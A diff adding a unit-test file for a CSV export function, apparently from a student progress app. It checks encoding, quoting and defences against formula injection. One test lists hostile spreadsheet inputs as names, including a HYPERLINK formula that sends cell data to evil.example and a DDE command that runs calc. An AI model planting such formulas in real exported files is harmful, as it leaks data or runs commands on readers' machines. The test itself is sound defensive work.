@@ -1,0 +1,61 @@
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { toCsv } from './csv.ts'
+
+/** The cells of one row, as a spreadsheet reads them back. */
+function readBack(...cells: (string | number)[]): string[] {
+  return Papa.parse<string[]>(toCsv(['Student'], [cells]).slice(1), { newline: '\r\n' }).data[1] ?? []
+}
+
+describe('a table saved as a file', () => {
+  it('stands line by line below its head, for any spreadsheet', () => {
+    expect(
+      toCsv(
+        ['Student', 'Times Table'],
+        [
+          ['Mia C.', 3],
+          ['Ben W.', 0],
+        ],
+      ),
+    ).toBe('\uFEFFStudent,Times Table\r\nMia C.,3\r\nBen W.,0')
+  })
+
+  it('says that its letters are UTF-8, so that macrons stay', () => {
+    const file = new TextEncoder().encode(toCsv(['Student'], [['Tūī Ngāta']]))
+    expect([...file.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect(new TextDecoder().decode(file)).toContain('Tūī Ngāta')
+  })
+
+  it.each([
+    '=HYPERLINK("https://evil.example/?x="&A1,"Mia")',
+    "=cmd|' /C calc'!A0",
+    '+1',
+    '-1',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '＝1+1',
+    '=1+1\nsecond line',
+    '@SUM(A1)\r\nsecond line',
+  ])('never calculates the name %j', (name) => {
+    expect(readBack(name)).toEqual([`'${name}`])
+  })
+
+  it.each(['"Mia"', 'Chen, Mia', 'Mia\nChen', "O'Neill", 'Anne-Marie', 'A=B', ' Mia', 'Wīremu 🐧', '李小龙'])(
+    'shows the name %j as it is',
+    (name) => {
+      expect(readBack(name, 'Room 5')).toEqual([name, 'Room 5'])
+    },
+  )
+
+  it('leaves numbers numbers', () => {
+    expect(toCsv(['Streak'], [[-1]])).toBe('\uFEFFStreak\r\n-1')
+  })
+
+  it('is a head alone where there is nobody', () => {
+    expect(toCsv(['Student', 'Level'], [])).toBe('\uFEFFStudent,Level')
+  })
+})
